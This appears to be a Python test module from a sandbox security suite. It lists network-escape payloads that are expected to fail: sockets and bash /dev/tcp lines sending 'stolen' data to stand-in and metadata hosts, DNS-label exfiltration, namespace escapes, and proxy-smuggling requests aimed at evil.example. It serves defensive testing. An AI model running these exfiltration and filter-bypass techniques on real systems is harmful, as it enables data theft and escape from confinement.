"""Ways out of the box that must not exist: packets of its own, and requests to the gateway."""

from __future__ import annotations

from tests.security.payloads import Payload, python
from tests.security.recorder import OTHER, PRIVATE, PUBLIC, ZONE

PUBLIC6 = "2606:2800:220:1::34"
_TCP = "import socket; socket.create_connection(('{to}', {port}), 5).sendall(b'stolen')"
_UDP = (
    "import socket; f=socket.AF_INET6 if ':' in '{to}' else socket.AF_INET\n"
    "s=socket.socket(f, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1)\n"
    "s.sendto(b'stolen', ('{to}', {port}))"
)
_RAW = (
    "import socket; s=socket.socket(socket.AF_INET{six}, socket.SOCK_RAW, {protocol})\n"
    "s.sendto({data!r}, ('{to}', 0))"
)
_ECHO, _ECHO6 = b"\x08\0\xf7\xff\0\0\0\0stolen", b"\x80\0\0\0\0\0\0\0stolen"


def _tcp(name: str, to: str, port: int = 443) -> Payload:
    return Payload(name, python(_TCP.format(to=to, port=port)))


def _udp(name: str, to: str, port: int) -> Payload:
    return Payload(name, python(_UDP.format(to=to, port=port)))


def _raw(name: str, to: str, protocol: int, data: bytes, six: str = "") -> Payload:
    return Payload(name, python(_RAW.format(to=to, protocol=protocol, data=data, six=six)))


_PLAIN = python(_TCP.format(to=PUBLIC, port=443))
_QUESTION = (
    "import socket,struct\n"
    "q=b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6stolen\\4evil\\7example\\0\\0\\1\\0\\1'\n"
)
_NETLINK = (
    # RTM_NEWADDR (20) with an address for loopback, rtnetlink(7); then on to the neighbour.
    "import socket,struct\n"
    "s=socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
    "body=struct.pack('=BBBBI', 2, 24, 0, 0, 1)+struct.pack('=HH4s', 8, 2, bytes([10,213,77,8]))\n"
    "s.send(struct.pack('=IHHII', 16+len(body), 20, 0x405, 1, 0)+body); print(s.recv(999))\n"
    f"socket.create_connection(('{PRIVATE}', 443), 5).sendall(b'stolen')"
)

DIRECT: tuple[Payload, ...] = (
    _tcp("tcp-public-https", PUBLIC),
    _tcp("tcp-public-http", PUBLIC, 80),
    _tcp("tcp-public-ssh", PUBLIC, 22),
    _tcp("tcp-public-git", PUBLIC, 9418),
    _tcp("tcp-port-nobody-listens-on", PUBLIC, 31337),
    _tcp("tcp-private-10", PRIVATE),
    _tcp("tcp-private-172", "172.20.99.7", 2375),
    _tcp("tcp-private-192", "192.168.213.7", 8080),
    _tcp("tcp-docker-bridge", "172.17.0.1", 2375),
    _tcp("tcp-carrier-grade", "100.64.9.9", 3128),
    _tcp("tcp-metadata", "169.254.169.254", 80),
    _tcp("tcp-ipv6-public", PUBLIC6),
    _tcp("tcp-ipv6-unique-local", "fd00:213::7", 8080),
    _tcp("tcp-ipv6-metadata", "fd00:ec2::254", 80),
    _tcp("tcp-ipv4-mapped", f"::ffff:{PUBLIC}"),
    _tcp("tcp-decimal-address", "1572395042"),
    _tcp("tcp-hexadecimal-address", "0x5db8d822"),
    _tcp("tcp-by-name", "evil.example"),
    Payload("tcp-by-bash", f"exec 3<>/dev/tcp/{PUBLIC}/443; echo stolen >&3"),
    Payload(
        "tcp-fast-open",
        python(
            "import socket; s=socket.socket(); s.settimeout(5)\n"
            f"s.sendto(b'stolen', 0x20000000, ('{PUBLIC}', 443))"
        ),
    ),
    Payload(
        "tcp-multipath",
        python(
            "import socket; s=socket.socket(2, 1, 262); s.settimeout(5)\n"
            f"s.connect(('{PUBLIC}', 443))"
        ),
        control=_PLAIN,
    ),
    Payload(
        "tcp-without-the-proxy-variables",
        "unset https_proxy HTTPS_PROXY http_proxy HTTP_PROXY; "
        + python(
            "import urllib.request as u\n"
            f"u.build_opener(u.ProxyHandler({{}})).open('http://{PUBLIC}/stolen', timeout=5)"
        ),
    ),
    Payload("git-protocol", f"git ls-remote git://{PUBLIC}/stolen.git"),
    Payload(
        "git-https-without-proxy",
        f"env -u https_proxy -u HTTPS_PROXY -u http_proxy -u HTTP_PROXY timeout 60 git "
        f"-c http.proxy= ls-remote http://{PUBLIC}/stolen.git",
    ),
    _udp("udp-ntp", PUBLIC, 123),
    _udp("udp-quic", PUBLIC, 443),
    _udp("udp-syslog-private", "192.168.213.7", 514),
    _udp("udp-ipv6", PUBLIC6, 443),
    _udp("udp-multicast-dns", "224.0.0.251", 5353),
    _udp("udp-to-the-resolvers-port", PUBLIC, 53),
    Payload(
        "udp-lite",
        python(f"import socket; socket.socket(2, 2, 136).sendto(b'stolen', ('{PUBLIC}', 4000))"),
        control=python(_RAW.format(to=PUBLIC, protocol=136, data=b"\0" * 12, six="")),
    ),
    Payload(
        "dns-over-udp-by-hand",
        python(_QUESTION + "socket.socket(2, 2).sendto(q, ('8.8.8.8', 53))"),
    ),
    Payload(
        "dns-over-tcp-by-hand",
        python(
            _QUESTION + "s=socket.create_connection(('8.8.8.8', 53), 5)\n"
            "s.sendall(struct.pack('!H', len(q))+q)"
        ),
    ),
    Payload("dns-by-the-system", "getent hosts evil.example"),
    Payload("dns-labels-that-carry-data", "getent ahosts c2VjcmV0LXRva2Vu.evil.example"),
    Payload("dns-of-a-listed-name-with-data-in-front", "getent ahosts c2VjcmV0.allowed.example"),
    _raw("icmp-echo", PUBLIC, 1, _ECHO),
    _raw("icmp-echo-metadata", "169.254.169.254", 1, _ECHO),
    _raw("icmpv6-echo", PUBLIC6, 58, _ECHO6, "6"),
    Payload(
        "icmp-ping-socket",
        python(f"import socket; socket.socket(2, 2, 1).sendto({_ECHO!r}, ('{PUBLIC}', 0))"),
        control=python(_RAW.format(to=PUBLIC, protocol=1, data=_ECHO, six="")),
    ),
    _raw("raw-gre", PUBLIC, 47, b"\0\0\x08\0stolen"),
    _raw("raw-sctp", PUBLIC, 132, b"\0\x09\0\x09\0\0\0\0\0\0\0\0stolen"),
    Payload(
        "sctp-socket",
        python(
            "import socket; s=socket.socket(2, 1, 132); s.settimeout(5)\n"
            f"s.connect(('{PUBLIC}', 443))"
        ),
        control=python(_RAW.format(to=PUBLIC, protocol=132, data=b"\0" * 12, six="")),
    ),
    Payload(
        "link-layer-frame",
        python(
            "import socket; s=socket.socket(17, 3, 0); s.bind(('lo', 0x88b5))\n"
            "s.send(bytes(12)+b'\\x88\\xb5'+b'stolen'*8)"
        ),
    ),
    Payload("netlink-new-address", python(_NETLINK)),
    Payload(
        "user-namespace-of-its-own",
        f"unshare -Urn bash -c 'exec 3<>/dev/tcp/{PUBLIC}/443'; {_PLAIN}",
    ),
    Payload("namespace-of-the-first-process", f"nsenter --net=/proc/1/ns/net {_PLAIN}; {_PLAIN}"),
)
"""Without the gateway.  Each is run in the box, then in the open container as its control."""

_LINE = "{method} {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"
# Once it has an answer it says no more, so that a tunnel ends: the recorder waits for that.
_SEND = """
import socket, time
s = socket.socket(socket.AF_UNIX); s.settimeout({patience}); s.connect('/plandock/link/proxy.sock')
for part in {parts!r}:
    try:
        s.sendall(part)
    except OSError as error:
        print(error); break
    time.sleep({pause})
try:
    while data := s.recv(4096):
        print(data)
        s.shutdown(socket.SHUT_WR)
except OSError as error:
    print(error)
"""


def knock(*parts: bytes, pause: float = 0.0, patience_s: float = 60.0) -> str:
    """Send these bytes to the gateway's socket, with pauses, and print what it says."""
    return python(_SEND.format(parts=parts, pause=pause, patience=patience_s))


def request(
    target: str, *, method: str = "CONNECT", host: str = "", more: str = "", after: bytes = b""
) -> str:
    """Ask the gateway for something in one request, ``after`` sent behind it at once."""
    text = _LINE.format(method=method, target=target, host=host or target, more=more)
    return knock(text.encode() + after)


def _connect(
    name: str, target: str, *, method: str = "CONNECT", host: str = "", more: str = ""
) -> Payload:
    return Payload(name, request(target, method=method, host=host, more=more))


_EVIL = b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"
_GOOD = _EVIL.replace(b"evil.example", b"allowed.example")

REFUSED: tuple[Payload, ...] = (
    _connect("name-not-listed", "evil.example:443"),
    _connect("name-with-data-in-its-labels", "c2VjcmV0LXRva2Vu.evil.example:443"),
    _connect("label-in-front-of-a-listed-name", "c2VjcmV0.allowed.example:443"),
    _connect("listed-name-as-a-label", "allowed.example.evil.example:443"),
    _connect("listed-name-as-an-ending", "evil-allowed.example:443"),
    _connect("listed-name-as-a-user", "allowed.example@evil.example:443"),
    _connect("listed-name-as-a-fragment", "evil.example#allowed.example:443"),
    _connect("listed-name-in-front-of-a-null", "evil.example%00.allowed.example:443"),
    _connect("two-ports", "evil.example:443:443"),
    _connect("address-dotted", f"{OTHER}:443"),
    _connect("address-dotted-with-a-last-dot", f"{OTHER}.:443"),
    _connect("address-decimal", "1572395074:443"),
    _connect("address-hexadecimal", "0x5db8d842:443"),
    _connect("address-octal", "0135.0270.0330.0102:443"),
    _connect("address-short", "10.77:443"),
    _connect("address-ipv6", f"[{PUBLIC6}]:443"),
    _connect("address-ipv6-mapped", f"[::ffff:{OTHER}]:443"),
    _connect("address-ipv6-with-a-zone", "[fe80::1%lo]:443"),
    _connect("address-in-full-width-digits", "９３.184.216.66:443"),
    _connect("address-private", f"{PRIVATE}:443"),
    _connect("address-metadata", "169.254.169.254:443"),
    _connect("address-loopback", "127.0.0.1:443"),
    _connect("address-zero", "0:443"),
    _connect("loopback-by-name", "localhost:443"),
    _connect("docker-host-by-name", "host.docker.internal:443"),
    _connect("podman-host-by-name", "host.containers.internal:443"),
    *(_connect(f"port-{x}", f"allowed.example:{x}") for x in (22, 80, 0, 8443, 65979, "+443")),
    _connect("port-missing", "allowed.example"),
    _connect("host-header-of-a-listed-name", "evil.example:443", host="allowed.example:443"),
    _connect("plain-get", "http://evil.example/", method="GET", host="evil.example"),
    _connect("plain-get-of-a-listed-name", "http://allowed.example/", method="GET"),
    _connect("plain-get-metadata", "http://169.254.169.254/latest/meta-data/", method="GET"),
    _connect("origin-form", "/", method="GET", host="evil.example"),
    _connect("post-with-a-second-request", "http://evil.example/", method="POST",
             more="Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"),
    _connect("websocket", "http://evil.example/", method="GET",
             more="Connection: Upgrade\r\nUpgrade: websocket\r\n"),
    Payload("two-requests-at-once", knock(_EVIL + _GOOD)),
    Payload("request-in-pieces", knock(*[_EVIL[n : n + 6] for n in range(0, len(_EVIL), 6)],
                                       pause=0.02)),
    Payload("line-ends-without-carriage-return", knock(_EVIL.replace(b"\r\n", b"\n"))),
    Payload("folded-header", knock(b"CONNECT evil.example:443 HTTP/1.1\r\nHost:\r\n a\r\n\r\n")),
    Payload("old-http", knock(b"CONNECT evil.example:443 HTTP/1.0\r\n\r\n")),
    Payload("simple-request", knock(b"GET http://evil.example/\r\n\r\n")),
    Payload("http2-preface", knock(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(64))),
    Payload("socks4", knock(b"\x04\x01\x01\xbb" + bytes([93, 184, 216, 66]) + b"me\0")),
    Payload("socks5", knock(b"\x05\x01\0", b"\x05\x01\0\x03\x0cevil.example\x01\xbb", pause=0.1)),
    Payload("proxy-protocol", knock(b"PROXY TCP4 1.1.1.1 93.184.216.66 9 443\r\n" + _EVIL)),
    Payload("tls-to-the-proxy", knock(
        # The gateway waits for the end of a head that has none.
        bytes.fromhex("16030100c8010000c40303") + bytes(190), patience_s=3.0)),
    Payload("redirect-that-is-followed", python(
        "import urllib.request as u; u.urlopen('http://allowed.example/go?to=http://evil.example/')"
    )),
    Payload("system-library-by-the-proxy", python(
        "import urllib.request as u; u.urlopen('https://evil.example/', timeout=5)"
    )),
    Payload("git-by-the-proxy", "git ls-remote https://evil.example/stolen.git"),
    Payload("git-by-the-proxy-in-plain", "git ls-remote http://evil.example/stolen.git"),
    Payload("the-stand-ins-port", "exec 3<>/dev/tcp/127.0.0.1/3129; echo stolen >&3; cat <&3"),
    *(
        _connect(f"listed-name-that-means-{name.removesuffix('.example')}", f"{name}:443")
        for name, addresses in ZONE.items()
        if addresses != (PUBLIC,)
    ),
)  # fmt: skip
"""Asked of the gateway, which must refuse; the names' hostile answers come from the recorder."""

TUNNELLED: tuple[Payload, ...] = (
    Payload("host-header-of-another-name", request("allowed.example:443", host="evil.example:443")),
    Payload("second-request-behind-the-first", knock(_GOOD + _EVIL)),
    Payload("second-request-inside-the-tunnel", knock(_GOOD, _EVIL, pause=0.5)),
    Payload("body-behind-the-request", request(
        "allowed.example:443", more="Content-Length: 66\r\n", after=_EVIL)),
    Payload("name-that-changes-its-answer", "; ".join([request("rebind.example:443")] * 4)),
    Payload("name-in-capitals-with-a-last-dot", request("ALLOWED.example.:443")),
)  # fmt: skip
"""Where a tunnel to the listed name itself may come up: nothing reaches any other place."""
